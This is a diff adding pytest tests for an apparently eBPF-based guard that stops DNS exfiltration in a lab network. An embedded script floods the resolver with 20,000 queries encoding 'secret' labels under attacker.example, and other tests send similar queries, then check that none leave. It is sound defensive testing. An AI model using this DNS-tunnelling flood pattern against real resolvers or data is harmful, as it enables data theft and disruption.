@@ -73,6 +73,72 @@ def test_nothing_of_a_refused_query_leaves(guard, server):
     assert guard.curl(f"https://{ALLOWED}") == 0
 
 
+FLOOD = """
+import errno, socket, struct, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect((sys.argv[1], 53))
+s.setblocking(False)
+print("ready", flush=True)
+answered = refused = 0
+for i in range(int(sys.argv[2])):
+    name = f"secret{i}"
+    question = bytes([len(name)]) + name.encode() + b"\\x08attacker\\x07example\\0" + struct.pack("!HH", 1, 1)
+    try:
+        s.send(struct.pack("!HH4H", i & 65535, 0x0100, 1, 0, 0, 0) + question)
+    except PermissionError:
+        refused += 1
+    try:
+        answered += s.recv(512)[3] & 15 == 3
+    except BlockingIOError:
+        pass
+print(answered, refused)
+"""
+FLOODED = 20000
+
+
+def test_flood_of_refused_queries_leaves_nothing_and_hinders_nobody(guard, server):
+    """What finds no room with the helper is refused by an error. The kernel tells the resolver, by ICMP, of an answer
+    that came too late for its asker: the uplink's program refuses that."""
+    guard.load("--uplink", "eth0")
+    mark = guard.lab.wire.mark()
+    with guard.lab.server.popen([sys.executable, "-IS", "-c", FLOOD, topology.RESOLVER, str(FLOODED)], guarded=True,
+                                stdout=subprocess.PIPE, text=True) as flood:
+        assert flood.stdout.readline() == "ready\n"
+        assert guard.curl(f"https://{ALLOWED}") == 0
+        answered, refused = map(int, flood.stdout.read().split())
+    assert answered and answered + refused <= FLOODED
+    assert poll(lambda: guard.ask("other.attacker.example") == "no such name", "the helper's answer")
+    assert not [f for f in guard.lab.wire.traffic(mark) if b"secret" in bytes(f.payload)]
+
+
+@pytest.fixture
+def aside(guard):
+    """Another interface, by which the resolver seems to be reached."""
+    server = guard.lab.server
+    server.run(["sh", "-ec", "ip link add aside type veth peer name other; ip link set other up; "
+                            "echo 1 >/proc/sys/net/ipv6/conf/aside/disable_ipv6"], check=True)
+    server.ip("addr add 10.77.0.1/24 dev aside", "link set aside up", f"route add {topology.RESOLVER}/32 dev aside")
+    yield "/sys/class/net/aside/statistics/tx_packets"
+    server.ip("link del aside")
+
+
+def test_refused_query_does_not_leave_where_the_uplinks_program_is_not(guard, aside):
+    """At another interface, and at the uplink itself once its program was taken away: what refuses is at the socket."""
+    guard.load("--uplink", "eth0")
+    with serving(guard):
+        assert guard.ask("secret.attacker.example") == "no such name"
+        assert guard.shell(f"cat {aside}").stdout == "0\n"
+        guard.ask(ALLOWED)
+        assert guard.shell(f"cat {aside}").stdout != "0\n", "that is its way"
+        guard.lab.server.ip(f"route del {topology.RESOLVER}/32 dev aside")
+        guard.shell("for pin in /sys/fs/bpf/ohguard/host/uplink*; do bpftool link detach pinned $pin || true; done")
+        hooks = guard.json("status", status=4)["hooks"]
+        assert [h["attached"] for h in hooks if h["hook"] == "uplink-egress"] == [False]
+        mark = guard.lab.wire.mark()
+        assert guard.ask("secret.attacker.example") == "no such name"
+        assert not [f for f in guard.lab.wire.traffic(mark) if b"secret" in bytes(f.payload)]
+
+
 @pytest.mark.parametrize("how", ["never", signal.SIGTERM, signal.SIGKILL])
 def test_without_the_helper_the_sender_is_told_by_an_error(guard, how):
     if how != "never":
